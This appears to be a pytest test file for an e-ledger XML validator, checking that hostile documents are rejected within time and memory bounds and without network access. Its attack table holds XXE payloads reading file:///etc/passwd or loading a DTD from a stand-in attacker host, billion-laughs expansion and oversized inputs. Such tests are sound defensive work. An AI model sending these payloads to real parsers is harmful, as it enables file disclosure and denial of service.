"""Hostile files: each has a verdict, in bounded time and memory, and nothing outside is touched."""

import random
import re
import resource
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from defterhane.edefter.kinds import DocumentKind
from support.golden_documents import golden, name_of, rules_of, signature_xml, verdict

DECLARED = b'<?xml version="1.0" encoding="UTF-8"?>\n'
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))

ATTACKS: dict[str, tuple[bytes, str]] = {
    "entity from a file": (
        DECLARED + b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n<x>&secret;</x>',
        "xml.entity",
    ),
    "parameter entity": (
        DECLARED + b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><x/>',
        "xml.entity",
    ),
    "billion laughs": (
        DECLARED + b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l9;</x>",
        "xml.entity",
    ),
    "external DTD": (DECLARED + b'<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">\n<x/>', "xml.doctype"),
    "DTD after a comment that hides it": (
        DECLARED + b"<!-- <x> -->\n<?p <x> ?>\n<!DOCTYPE x>\n<x/>",
        "xml.doctype",
    ),
    "default attributes": (DECLARED + b'<!DOCTYPE x [<!ATTLIST x y CDATA "z">]><x/>', "xml.doctype"),
    "entity that nobody declared": (DECLARED + b"<x>&nbsp;</x>", "xml.entity"),
    "deep nesting": (DECLARED + b"<x>" * 100_000, "xml.too_deep"),
    "many elements": (DECLARED + b"<x>" + b"<y/>" * 600_000 + b"</x>", "xml.too_many_elements"),
    "many attributes": (
        DECLARED + b"<x" + b"".join(b" a%d='1'" % n for n in range(300_000)) + b"/>",
        "xml.too_many_elements",
    ),
    "huge text": (DECLARED + b"<x>" + b"y" * 70_000_000 + b"</x>", "xml.piece_too_large"),
    "huge attribute": (DECLARED + b"<x y='" + b"y" * 70_000_000 + b"'/>", "xml.piece_too_large"),
    "huge comment": (DECLARED + b"<x><!--" + b"y" * 70_000_000 + b"--></x>", "xml.piece_too_large"),
    "huge prolog": (DECLARED + b"<!--" + b"y" * 1_000_000 + b"--><x/>", "xml.piece_too_large"),
    "UTF-16": ("<x>ş</x>".encode("utf-16"), "xml.encoding"),
    "UTF-16 without a mark": ("<x>ş</x>".encode("utf-16-le"), "xml.encoding"),
    "UTF-32": ("<x>ş</x>".encode("utf-32"), "xml.encoding"),
    "Turkish code page": ('<?xml version="1.0" encoding="windows-1254"?><x>ş</x>'.encode("cp1254"), "xml.encoding"),
    "UTF-8 in name only": (DECLARED + "<x>ş</x>".encode("cp1254"), "xml.encoding"),
    "UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-', "xml.encoding"),
    "overlong UTF-8": (DECLARED + b"<x>\xc0\xbcy\xc0\xbe</x>", "xml.encoding"),
    "NUL": (DECLARED + b"<x>\x00</x>", "text.control_character"),
    "escape": (DECLARED + b"<x>&#27;</x>", "text.control_character"),
    "surrogate": (DECLARED + b"<x>&#xD800;</x>", "text.control_character"),
    "cut": (DECLARED + b"<x><y>", "xml.cut"),
    "cut in a tag": (DECLARED + b"<x><y", "xml.cut"),
    "cut in the prolog": (b"<?xml version", "xml.broken"),
    "empty": (b"", "xml.broken"),
    "white space": (b" \n ", "xml.broken"),
    "text": (b"yevmiye defteri", "xml.broken"),
    "ZIP": (b"PK\x03\x04" + bytes(100), "xml.broken"),
    "zeros": (bytes(1000), "xml.encoding"),
    "two roots": (DECLARED + b"<x/><y/>", "xml.broken"),
    "attribute twice": (DECLARED + b"<x y='1' y='2'/>", "xml.broken"),
    "unknown prefix": (DECLARED + b"<a:x/>", "xml.broken"),
    "tags crossed": (DECLARED + b"<x><y></x></y>", "xml.broken"),
}


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object) -> None:
        raise AssertionError("the network was touched")

    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_a_finding(attack: str, tmp_path: Path) -> None:
    data, rule = ATTACKS[attack]
    started = time.monotonic()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = verdict(data, tmp_path)
    assert rule in found.findings.counts
    assert not found.valid
    assert time.monotonic() - started < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400_000  # KiB
    for finding in found.findings:
        assert finding.message.tr
        assert finding.message.en
        assert "root:" not in finding.model_dump_json()


def test_schema_locations_in_the_document_are_not_followed(tmp_path: Path) -> None:
    lure = tmp_path / "lure.xsd"
    lure.write_text("<not-a-schema/>")
    data = golden(DocumentKind.JOURNAL).replace(b"../xsd/edefter.xsd", lure.as_uri().encode())
    assert verdict(data, tmp_path).valid


def test_an_attack_in_a_document_of_ours(tmp_path: Path) -> None:
    data = golden(DocumentKind.JOURNAL)
    head, tail = data.split(b"<edefter:defter", 1)
    lure = head + b'<!DOCTYPE x [<!ENTITY e "y">]>\n<edefter:defter' + tail
    assert set(verdict(lure, tmp_path, name_of(DocumentKind.JOURNAL)).findings.counts) == {"xml.entity"}


def hostile_parts() -> Iterator[tuple[str, bytes]]:
    """What may be repeated many times at a place where readers keep things."""
    yield "<xbrli:context>", b'<xbrli:unit id="u"><xbrli:measure>iso4217:TRY</xbrli:measure></xbrli:unit>'
    yield "<gl-cor:documentInfo>", b"<gl-cor:documentInfo></gl-cor:documentInfo>"
    yield "<gl-cor:entryHeader>", b"<gl-cor:entryHeader></gl-cor:entryHeader>"
    yield "<gl-cor:entryDetail>", b"<gl-cor:entryDetail></gl-cor:entryDetail>"
    yield "<gl-cor:entryDetail>", b"<gl-cor:enteredBy>A</gl-cor:enteredBy><gl-cor:entryDetail></gl-cor:entryDetail>"
    yield "</edefter:defter>", b"<ds:SignatureValue>QQ==</ds:SignatureValue>"
    yield "</edefter:defter>", b"<HashValue></HashValue>"


@pytest.mark.parametrize(("place", "part"), list(hostile_parts()))
def test_nothing_is_kept_without_a_bound(place: str, part: bytes, tmp_path: Path) -> None:
    data = golden(DocumentKind.JOURNAL)
    at = data.index(place.encode()) if place != "<xbrli:context>" else data.index(b"<xbrli:unit")
    times = 4_000_000 // len(part)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = verdict(data[:at] + part * times + data[at:], tmp_path)
    assert not found.valid
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150_000  # KiB


def test_signatures_within_signatures(tmp_path: Path) -> None:
    """Counter-signatures of counter-signatures: read without recursion's end."""
    signature = signature_xml()
    inner, outer = signature.split("</ds:Object>")
    nested = inner * 60 + f"</ds:Object>{outer}" * 60
    data = golden(DocumentKind.JOURNAL).replace(b"</edefter:defter>", nested.encode() + b"</edefter:defter>")
    found = verdict(data, tmp_path)
    assert found.signed
    assert found.findings is not None


def test_no_spoilt_document_ends_in_a_trace(tmp_path: Path) -> None:
    """Documents spoilt at random, by cutting, repeating and swapping: a verdict each time, never an exception."""
    chance = random.Random(9)
    for _ in range(400):
        kind = chance.choice(list(DocumentKind))
        data = golden(kind)
        for _ in range(chance.randrange(1, 4)):
            tags = [match.start() for match in re.finditer(b"<", data)]
            one, other = sorted((chance.choice(tags), chance.choice(tags)))
            data = chance.choice(
                (
                    data[:one] + data[other:],
                    data[:other] + data[one:],
                    data.replace(b">0.00<", chance.choice((b">NaN<", b">1e400<", b"><", b">-0<")), 1),
                    data.replace(b"2025-03", chance.choice((b"9999-99", b"", b"\xc4\xb0")), chance.randrange(1, 9)),
                    data.replace(b"gl-cor:", b"gl-bus:", chance.randrange(1, 9)),
                )
            )
            data = data[:200_000]
        found = verdict(data, tmp_path, name_of(kind))
        assert rules_of(found, without_schema=False) or found.valid
